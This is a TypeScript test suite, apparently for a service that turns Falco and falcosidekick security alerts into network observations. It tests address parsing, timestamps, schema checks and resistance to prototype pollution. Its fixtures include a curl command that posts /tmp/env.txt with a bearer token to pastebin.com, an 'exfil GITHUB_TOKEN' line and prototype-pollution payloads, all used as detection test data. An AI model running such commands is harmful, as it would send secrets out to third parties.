import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseAlertBody, validateAlert } from '../../../src/receivers/falco/alert.js';
import type { FalcoAlert } from '../../../src/receivers/falco/alert.js';
import { mapAlert, normalizeIp, parseFdName, readEvtTimeNano } from '../../../src/receivers/falco/map.js';

const FIX = join(import.meta.dirname, '..', '..', 'fixtures', 'falco');
const fixture = (name: string): string => readFileSync(join(FIX, name), 'utf8');

function one(text: string): { alert: FalcoAlert; raw: string } {
  const r = parseAlertBody(text, false);
  assert.ok(r.ok, r.ok ? '' : r.message);
  assert.equal(r.alerts.length, 1);
  return r.alerts[0];
}

function alertWith(fields: Record<string, unknown>, extra: Record<string, unknown> = {}): FalcoAlert {
  const a = validateAlert({ rule: 'r', time: '2025-12-04T20:43:13.000000001Z', output_fields: fields, ...extra });
  assert.ok(typeof a !== 'string', String(a));
  return a;
}

describe('mapAlert on Falco and falcosidekick fixtures', () => {
  test('paste-site connect over IPv4 (user rule with fd.sip.name): every field', () => {
    const { alert, raw } = one(fixture('falco-paste-connect-ipv4.json'));
    const obs = mapAlert(alert, raw, { receiverId: 'falco/node' });
    assert.ok(obs);
    assert.equal(obs.type, 'observation');
    assert.equal(obs.kind, 'falco');
    assert.equal(obs.receiver, 'falco/node');
    assert.equal(obs.timeUnixNano, 1764880993123456789n);
    assert.equal(obs.transport, 'tcp');
    assert.equal(obs.networkType, 'ipv4');
    assert.deepEqual(obs.source, { address: '10.244.1.7', port: 43512 });
    assert.deepEqual(obs.destination, { address: '104.20.67.143', port: 443 });
    assert.deepEqual(obs.names, [{ name: 'pastebin.com', evidence: 'falco.fd.sip.name' }]);
    assert.deepEqual(obs.process, {
      pid: 48213,
      ppid: 48190,
      executableName: 'curl',
      executablePath: '/usr/bin/curl',
      commandLine: 'curl -s -H Authorization: Bearer [REDACTED] --data-binary @/tmp/env.txt https://ci:***@pastebin.com/api/api_post.php',
      user: 'runner',
      uid: 1001,
      containerId: '3f1c2a7b9d10',
      ancestry: ['48190:bash'],
    });
    const a = obs.attributes;
    assert.equal(a['container.id'], '3f1c2a7b9d10');
    assert.equal(a['container.name'], 'build');
    assert.equal(a['container.image.name'], 'ghcr.io/acme/builder');
    assert.deepEqual(a['container.image.tags'], ['1.4.2']);
    assert.equal(a['k8s.pod.name'], 'build-7f9c-abcde');
    assert.equal(a['k8s.namespace.name'], 'ci');
    assert.equal(a['falco.rule'], 'Outbound connection to a paste site');
    assert.equal(a['falco.priority'], 'Warning');
    assert.deepEqual(a['falco.tags'], ['T1071.001', 'exfiltration', 'mitre_command_and_control', 'network']);
    assert.equal(a['falco.source'], 'syscall');
    assert.equal(a['falco.hostname'], 'node-1');
    assert.equal(a['falco.evt.type'], 'connect');
    assert.equal(a['falco.direction'], 'outbound');
    assert.equal(a['falco.uuid'], undefined, 'Falco itself sends no uuid');
    const out = String(a['falco.output']);
    assert.ok(out.startsWith('20:43:13.123456789: Warning Outbound connection to a paste site'), out);
    assert.ok(!out.includes('ghp_') && !out.includes('hunter2'), `secret in output: ${out}`);
  });

  test('IPv6 "outside local subnet" with default output fields: fd.name as libsinsp prints it, nulls skipped', () => {
    const { alert, raw } = one(fixture('falco-subnet-ipv6.json'));
    const obs = mapAlert(alert, raw);
    assert.ok(obs);
    assert.equal(obs.receiver, 'falco');
    assert.equal(obs.timeUnixNano, 1764881000987654321n);
    assert.equal(obs.networkType, 'ipv6');
    assert.deepEqual(obs.source, { address: '2001:db8:1::5', port: 40412 });
    assert.deepEqual(obs.destination, { address: '2606:4700::6810:8543', port: 443 });
    assert.deepEqual(obs.names, [], 'no fd.sip.name: the DNS correlation adds names later');
    assert.deepEqual(obs.process, {
      executableName: 'python3',
      executablePath: '/usr/bin/python3.11',
      commandLine: 'python3 upload.py --api-key=[REDACTED] --verbose',
      user: 'root',
      ancestry: ['?:sh'],
    });
    for (const k of ['container.id', 'container.name', 'container.image.name', 'container.image.tags', 'k8s.pod.name', 'k8s.namespace.name']) {
      assert.equal(obs.attributes[k], undefined, `${k}: "host" and null are not values`);
    }
    assert.equal(obs.attributes['falco.rule'], 'Network Connection outside Local Subnet');
  });

  test('falcosidekick webhook: uuid, source "syscalls", custom fields not copied, fd.rip/fd.lip for UDP sendto', () => {
    const { alert, raw } = one(fixture('falcosidekick-webhook-udp.json'));
    const obs = mapAlert(alert, raw);
    assert.ok(obs);
    assert.equal(obs.timeUnixNano, 1764881011000000001n);
    assert.equal(obs.transport, 'udp');
    assert.deepEqual(obs.source, { address: '10.244.2.9', port: 51234 });
    assert.deepEqual(obs.destination, { address: '198.51.100.23', port: 8443 });
    assert.equal(obs.attributes['falco.uuid'], '0b1c7e9e-3f5a-4c62-9c1a-2d7f8e4b5a61');
    assert.equal(obs.attributes['falco.source'], 'syscalls');
    assert.equal(obs.attributes['falco.priority'], 'Critical');
    assert.equal(obs.attributes['falco.rule'], 'Odd UDP egress seen by acme rules');
    assert.equal(obs.attributes.cluster, undefined);
    assert.equal(obs.attributes.environment, undefined);
    assert.equal(obs.process?.commandLine, 'exfil GITHUB_TOKEN=[REDACTED]');
    assert.equal(obs.process?.uid, 65534);
    assert.deepEqual(obs.process?.ancestry, undefined);
  });

  test('a file alert is not about the network: undefined', () => {
    const { alert, raw } = one(fixture('falco-read-sensitive-file.json'));
    assert.equal(mapAlert(alert, raw), undefined);
  });
});

describe('fd.name parsing', () => {
  const cases: [string, ReturnType<typeof parseFdName>][] = [
    ['10.0.0.5:51000->93.184.216.34:443', { client: { address: '10.0.0.5', port: 51000 }, server: { address: '93.184.216.34', port: 443 } }],
    ['::1:40000->2001:db8::1:443', { client: { address: '::1', port: 40000 }, server: { address: '2001:db8::1', port: 443 } }],
    ['[::1]:1234->[2001:db8::1]:443', { client: { address: '::1', port: 1234 }, server: { address: '2001:db8::1', port: 443 } }],
    ['2001:DB8::5:5353->2001:DB8::53:53', { client: { address: '2001:db8::5', port: 5353 }, server: { address: '2001:db8::53', port: 53 } }],
    ['::ffff:10.0.0.5:5000->::ffff:1.2.3.4:80', { client: { address: '10.0.0.5', port: 5000 }, server: { address: '1.2.3.4', port: 80 } }],
    // Hostname/port resolution on: the port is a service name, so unknown.
    ['10.0.0.5:51000->93.184.216.34:https', { client: { address: '10.0.0.5', port: 51000 }, server: { address: '93.184.216.34', port: undefined } }],
    ['/etc/shadow', undefined],
    ['0.0.0.0:8080', undefined],
    ['host.example:1->x:2', undefined],
    ['->', undefined],
    ['[::1:1234->[::2]:80', undefined],
  ];
  for (const [input, expected] of cases) {
    test(JSON.stringify(input), () => assert.deepEqual(parseFdName(input), expected));
  }
  test('normalizeIp', () => {
    assert.equal(normalizeIp('[2001:DB8::1]'), '2001:db8::1');
    assert.equal(normalizeIp('::ffff:192.0.2.1'), '192.0.2.1');
    assert.equal(normalizeIp('192.0.2.1'), '192.0.2.1');
    assert.equal(normalizeIp('pastebin.com'), undefined);
    assert.equal(normalizeIp('<NA>'), undefined);
  });
});

describe('time', () => {
  test('evt.time (19 digits, > 2^53) is read exactly from the raw text, not from the rounded number', () => {
    const raw = '{"output_fields":{"evt.time":1764880993123456789,"fd.name":"10.0.0.1:1->10.0.0.2:2"},"rule":"r","time":"2025-12-04T20:43:13.123456789Z"}';
    const parsed = JSON.parse(raw) as { output_fields: Record<string, number> };
    // JSON.parse loses the last digits: this is what the scan avoids.
    assert.notEqual(BigInt(parsed.output_fields['evt.time']), 1764880993123456789n);
    assert.equal(readEvtTimeNano(raw, parsed.output_fields['evt.time']), 1764880993123456789n);
  });

  test('evt.time wins over `time` when both are there (proves which one is used)', () => {
    const raw = '{"output_fields":{"evt.time":1764880993123456789,"fd.name":"10.0.0.1:1->10.0.0.2:2"},"rule":"r","time":"2030-01-01T00:00:00.000000001Z"}';
    const { alert } = one(raw);
    assert.equal(mapAlert(alert, raw)?.timeUnixNano, 1764880993123456789n);
  });

  test('without evt.time (or with the old text form) the `time` field gives nanoseconds', () => {
    const raw = '{"output_fields":{"evt.time":"20:43:13.123456789","fd.name":"10.0.0.1:1->10.0.0.2:2"},"rule":"r","time":"2025-12-04T20:43:13.987654321Z"}';
    const { alert } = one(raw);
    assert.equal(mapAlert(alert, raw)?.timeUnixNano, 1764880993987654321n);
    assert.equal(mapAlert(alert, '')?.timeUnixNano, 1764880993987654321n);
  });

  test('an "evt.time" inside a string or elsewhere cannot stand in for the field', () => {
    const raw =
      '{"output":"\\"evt.time\\":1111111111111111111","output_fields":{"x":{"\\"evt.time":2222222222222222222},"evt.time":1764880993123456789,"fd.name":"10.0.0.1:1->10.0.0.2:2"},"rule":"r","time":"2025-12-04T20:43:13.123456789Z"}';
    const { alert } = one(raw);
    assert.equal(mapAlert(alert, raw)?.timeUnixNano, 1764880993123456789n);
  });
});

describe('mapping details', () => {
  test('explicit fd.sip/fd.sport/fd.cip/fd.cport override fd.name; fd.sip.name is normalised', () => {
    const obs = mapAlert(
      alertWith({ 'fd.name': '10.0.0.1:1000->10.0.0.2:80', 'fd.sip': '203.0.113.9', 'fd.sport': 8443, 'fd.cip': '10.0.0.7', 'fd.cport': '4000', 'fd.sip.name': 'Paste.EE.' }),
      '',
    );
    assert.deepEqual(obs?.destination, { address: '203.0.113.9', port: 8443 });
    assert.deepEqual(obs?.source, { address: '10.0.0.7', port: 4000 });
    assert.deepEqual(obs?.names, [{ name: 'paste.ee', evidence: 'falco.fd.sip.name' }]);
  });

  test('an fd.sip.name that is not a host name is not a name', () => {
    for (const bad of ['1.2.3.4', 'a b', '<NA>', '', 'x'.repeat(300)]) {
      const obs = mapAlert(alertWith({ 'fd.sip': '1.2.3.4', 'fd.sip.name': bad }), '');
      assert.deepEqual(obs?.names, [], bad);
    }
  });

  test('only an IP (fd.sip without port): observation with port 0 and no names', () => {
    const obs = mapAlert(alertWith({ 'fd.sip': '2001:db8::9' }), '');
    assert.deepEqual(obs?.destination, { address: '2001:db8::9', port: 0 });
    assert.equal(obs?.networkType, 'ipv6');
    assert.equal(obs?.source, undefined);
    assert.deepEqual(obs?.names, []);
  });

  test('an accept (inbound) known by fd.rip/fd.lip: the remote is the client', () => {
    const obs = mapAlert(alertWith({ 'evt.type': 'accept4', 'fd.rip': '198.51.100.1', 'fd.rport': 55555, 'fd.lip': '10.0.0.2', 'fd.lport': 22 }), '');
    assert.deepEqual(obs?.source, { address: '198.51.100.1', port: 55555 });
    assert.deepEqual(obs?.destination, { address: '10.0.0.2', port: 22 });
    assert.equal(obs?.attributes['falco.direction'], 'inbound');
  });

  test('no IP anywhere: undefined', () => {
    assert.equal(mapAlert(alertWith({ 'fd.name': 'unix:///run/x.sock', 'fd.sip': null, 'fd.rip': '<NA>' }), ''), undefined);
    assert.equal(mapAlert(alertWith({}), ''), undefined);
  });

  test('falco.output is cut to max_output_chars after redaction; ancestry from proc.aname[N]', () => {
    const output = `token=${'a'.repeat(10)} ` + 'x'.repeat(5000);
    const obs = mapAlert(
      alertWith(
        { 'fd.sip': '1.2.3.4', 'proc.ppid': 10, 'proc.pname': 'sh', 'proc.aname[2]': 'make', 'proc.apid[2]': 5, 'proc.aname[3]': 'runner' },
        { output },
      ),
      '',
      { maxOutputChars: 100 },
    );
    const out = String(obs?.attributes['falco.output']);
    assert.equal(out.length, 101);
    assert.ok(out.startsWith('token=[REDACTED] xxx'), out);
    assert.ok(out.endsWith('…'));
    assert.deepEqual(obs?.process?.ancestry, ['10:sh', '5:make', '?:runner']);
  });
});

describe('body parsing and schema', () => {
  const good = (n: number): string => JSON.stringify({ rule: `r${n}`, time: '2025-12-04T20:43:13.000000001Z', output_fields: { 'fd.sip': `10.0.0.${n}` } });

  test('ndjson and multi-line application/json bodies carry several alerts, each with its own raw line', () => {
    for (const ndjson of [true, false]) {
      const r = parseAlertBody(`${good(1)}\n${good(2)}\r\n\n${good(3)}\n`, ndjson);
      assert.ok(r.ok);
      assert.deepEqual(r.alerts.map((a) => a.alert.rule), ['r1', 'r2', 'r3']);
      assert.equal(r.alerts[1].raw, good(2));
    }
  });

  test('a JSON array of alerts is accepted', () => {
    const r = parseAlertBody(`[${good(1)},${good(2)}]`, false);
    assert.ok(r.ok);
    assert.equal(r.alerts.length, 2);
  });

  test('pretty-printed single alert is one alert', () => {
    const r = parseAlertBody(JSON.stringify(JSON.parse(good(1)), null, 2), false);
    assert.ok(r.ok);
    assert.equal(r.alerts.length, 1);
  });

  test('one bad line rejects the whole body, naming the line', () => {
    const r = parseAlertBody(`${good(1)}\n{"rule":"x"}\n`, true);
    assert.deepEqual(r, { ok: false, reason: 'schema_invalid', message: 'line 2: missing "time" (RFC 3339 text)' });
    const j = parseAlertBody(`${good(1)}\nnot json\n`, true);
    assert.equal(j.ok, false);
    assert.equal(!j.ok && j.reason, 'invalid_json');
    assert.match(!j.ok ? j.message : '', /^line 2 is not valid JSON/);
  });

  test('schema reasons', () => {
    const t = '2025-12-04T20:43:13.000000001Z';
    assert.equal(validateAlert({ time: t, output_fields: {} }), 'missing "rule" (a non-empty string)');
    assert.equal(validateAlert({ rule: 'r', output_fields: {} }), 'missing "time" (RFC 3339 text)');
    assert.equal(validateAlert({ rule: 'r', time: 'yesterday', output_fields: {} }), '"time" is not RFC 3339: "yesterday"');
    assert.equal(validateAlert({ rule: 'r', time: t }), 'missing "output_fields" (an object)');
    assert.equal(validateAlert({ rule: 'r', time: t, output_fields: [] }), 'missing "output_fields" (an object)');
    assert.equal(validateAlert({ rule: 'r', time: t, output_fields: {}, priority: 3 }), '"priority" must be a string, got number');
    assert.equal(validateAlert({ rule: 'r', time: t, output_fields: {}, tags: 'network' }), '"tags" must be an array of strings');
    assert.equal(validateAlert([1]), 'an alert must be a JSON object, got an array');
    assert.equal(validateAlert(null), 'an alert must be a JSON object, got null');
    assert.deepEqual(parseAlertBody('  \n', false), { ok: false, reason: 'empty_body', message: 'the body is empty: expected a Falco alert in JSON' });
    const bad = parseAlertBody('{"rule":', false);
    assert.equal(!bad.ok && bad.reason, 'invalid_json');
  });

  test('prototype pollution attempts neither pollute nor stand in for fields', () => {
    const body =
      '{"__proto__":{"polluted":1,"rule":"from-proto"},"constructor":{"prototype":{"polluted":2}},"rule":"real",' +
      '"time":"2025-12-04T20:43:13.000000001Z","output_fields":{"__proto__":{"polluted":3,"fd.sip":"6.6.6.6"},"constructor":{"prototype":{"polluted":4}},"fd.sip":"192.0.2.7"}}';
    const r = parseAlertBody(body, false);
    assert.ok(r.ok);
    const obs = mapAlert(r.alerts[0].alert, r.alerts[0].raw);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
    assert.equal((Object.prototype as Record<string, unknown>).polluted, undefined);
    assert.deepEqual(obs?.destination, { address: '192.0.2.7', port: 0 });
    assert.equal(obs?.attributes['falco.rule'], 'real');
    assert.ok(!Object.keys(obs?.attributes ?? {}).some((k) => k === '__proto__' || k === 'constructor' || k === 'polluted'));
    // A required field offered only through __proto__ is missing.
    const sneaky = parseAlertBody('{"__proto__":{"rule":"x"},"time":"2025-12-04T20:43:13.000000001Z","output_fields":{}}', false);
    assert.deepEqual(sneaky, { ok: false, reason: 'schema_invalid', message: 'missing "rule" (a non-empty string)' });
    // Only an inherited fd.sip (via a prototype in the object graph) is not a field either.
    const inherited = Object.create({ 'fd.sip': '6.6.6.6' }) as Record<string, unknown>;
    assert.equal(mapAlert(alertWith(inherited), ''), undefined);
  });
});
